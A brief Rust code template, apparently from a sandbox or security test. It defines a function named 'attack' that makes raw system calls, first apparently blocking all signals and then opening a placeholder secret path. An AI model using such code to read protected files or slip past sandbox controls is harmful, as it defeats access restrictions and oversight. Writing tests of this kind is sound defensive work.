// @RAW@
async fn attack() {
    let all = [usize::MAX];
    let path = c"@SECRET@";
    raw(14, 2, at(&all), 0, 8, 0);
    raw(2, path.as_ptr() as usize, 0, 0, 0, 0);
}

// @GATHER@
